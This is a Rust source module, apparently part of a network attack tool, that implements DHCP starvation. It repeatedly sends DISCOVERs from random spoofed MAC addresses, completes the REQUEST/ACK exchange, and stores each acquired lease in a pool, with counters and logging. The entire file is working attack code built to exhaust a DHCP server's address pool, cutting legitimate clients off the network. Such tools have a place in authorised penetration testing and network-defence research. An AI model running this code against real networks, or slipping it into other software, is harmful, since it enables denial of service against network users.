//! DHCP starvation: acquire leases under spoofed client identities
//!
//! Each [`trigger`](DhcpAction::trigger) sends one DISCOVER from a fresh
//! random MAC. A matching OFFER is answered with a REQUEST for the offered
//! address, and a matching ACK is recorded in the lease pool. Only one
//! exchange is in flight at a time; see [`TransactionCorrelator`].

use crate::action::{ActionEvent, DhcpAction, DhcpSocket};
use crate::correlator::TransactionCorrelator;
use crate::packet::{DhcpMessageType, DhcpPacket};
use crate::random::{random_client_mac, random_xid};
use crate::stats::{StarvationStats, StarvationStatsSnapshot};
use crate::Xid;
use dstar_core::{AcquiredLease, LeasePool, PacketRoute};
use std::net::Ipv4Addr;
use std::time::Duration;
use tracing::{debug, info, trace, warn};

pub struct StarvationAction {
    correlator: TransactionCorrelator,
    stats: StarvationStats,
}

impl StarvationAction {
    pub fn new() -> Self {
        Self {
            correlator: TransactionCorrelator::new(),
            stats: StarvationStats::default(),
        }
    }

    /// Abandon an unanswered exchange after `timeout` instead of the default
    pub fn with_timeout(timeout: Duration) -> Self {
        Self {
            correlator: TransactionCorrelator::with_timeout(timeout),
            stats: StarvationStats::default(),
        }
    }

    pub fn correlator(&self) -> &TransactionCorrelator {
        &self.correlator
    }

    /// Current protocol counters, including attempts the correlator abandoned
    pub fn stats(&self) -> StarvationStatsSnapshot {
        self.stats.snapshot(self.correlator.abandoned())
    }

    /// Route for the REQUEST answering an OFFER that arrived along `inbound`
    fn request_route(
        inbound: &PacketRoute,
        offered_ip: Ipv4Addr,
        server_ip: Option<Ipv4Addr>,
    ) -> PacketRoute {
        PacketRoute {
            destination_mac: inbound.destination_mac,
            source_ip: (!offered_ip.is_unspecified()).then_some(offered_ip),
            destination_ip: server_ip.unwrap_or(Ipv4Addr::BROADCAST),
            to_server: true,
        }
    }
}

impl Default for StarvationAction {
    fn default() -> Self {
        Self::new()
    }
}

impl DhcpAction for StarvationAction {
    fn name(&self) -> &str {
        "DHCP Starvation"
    }

    fn trigger(&self, socket: &dyn DhcpSocket) -> ActionEvent {
        let slot = self.correlator.begin_attempt();

        let client_mac = random_client_mac();
        let xid = random_xid();
        let discover = DhcpPacket::new_discover(xid, client_mac);

        let event = match socket.send_message(&discover, &PacketRoute::broadcast_to_server()) {
            Ok(_) => {
                StarvationStats::bump(&self.stats.discovers_sent);
                info!(xid = %Xid(xid), mac = %client_mac, "DHCP DISCOVER sent");
                ActionEvent::DiscoverSent { xid, client_mac }
            }
            Err(e) => {
                StarvationStats::bump(&self.stats.send_errors);
                warn!(xid = %Xid(xid), error = %e, "Failed to send DHCP DISCOVER");
                ActionEvent::SendFailed {
                    xid,
                    message: DhcpMessageType::Discover,
                    error: e.to_string(),
                }
            }
        };

        // The attempt occupies the slot even if the send failed
        slot.commit(xid);
        event
    }

    fn on_message(
        &self,
        socket: &dyn DhcpSocket,
        pool: &dyn LeasePool,
        route: &PacketRoute,
        packet: &DhcpPacket,
    ) -> Option<ActionEvent> {
        let Some(attempt) = self.correlator.try_match(packet.xid) else {
            StarvationStats::bump(&self.stats.stale_replies);
            trace!(xid = %Xid(packet.xid), "Ignoring reply for another transaction");
            return None;
        };

        let xid = attempt.xid();
        let offered_ip = packet.yiaddr;
        let server_ip = packet.server_id().or_else(|| packet.server_addr());

        match packet.message_type() {
            Some(DhcpMessageType::Offer) => {
                StarvationStats::bump(&self.stats.offers_received);
                info!(
                    xid = %Xid(xid),
                    offered = %offered_ip,
                    server = ?server_ip,
                    "DHCP OFFER received"
                );

                let request =
                    DhcpPacket::new_request(xid, packet.client_mac(), offered_ip, server_ip);
                let request_route = Self::request_route(route, offered_ip, server_ip);

                // Dropping `attempt` keeps it pending for the ACK
                Some(match socket.send_message(&request, &request_route) {
                    Ok(_) => {
                        StarvationStats::bump(&self.stats.requests_sent);
                        info!(xid = %Xid(xid), requested = %offered_ip, "DHCP REQUEST sent");
                        ActionEvent::RequestSent {
                            xid,
                            requested_ip: offered_ip,
                            server_ip,
                        }
                    }
                    Err(e) => {
                        StarvationStats::bump(&self.stats.send_errors);
                        warn!(xid = %Xid(xid), error = %e, "Failed to send DHCP REQUEST");
                        ActionEvent::SendFailed {
                            xid,
                            message: DhcpMessageType::Request,
                            error: e.to_string(),
                        }
                    }
                })
            }
            Some(DhcpMessageType::Ack) => {
                let lease = AcquiredLease::new(
                    offered_ip,
                    packet.client_mac(),
                    server_ip,
                    route.destination_mac,
                    packet.primary_dns(),
                    packet.lease_time().unwrap_or(0),
                    xid,
                );

                pool.add_slot(lease.clone());
                attempt.complete();

                StarvationStats::bump(&self.stats.leases_acquired);
                info!(
                    xid = %Xid(xid),
                    ip = %lease.client_ip(),
                    mac = %lease.fake_client_mac(),
                    lease_secs = lease.lease_seconds(),
                    "DHCP ACK, lease acquired"
                );
                Some(ActionEvent::LeaseAcquired(lease))
            }
            Some(DhcpMessageType::Nak) => {
                // The attempt stays pending until it times out
                StarvationStats::bump(&self.stats.naks_received);
                warn!(xid = %Xid(xid), server = ?server_ip, "DHCP NAK received");
                Some(ActionEvent::Rejected { xid })
            }
            other => {
                debug!(xid = %Xid(xid), kind = ?other, "Ignoring DHCP message");
                None
            }
        }
    }
}
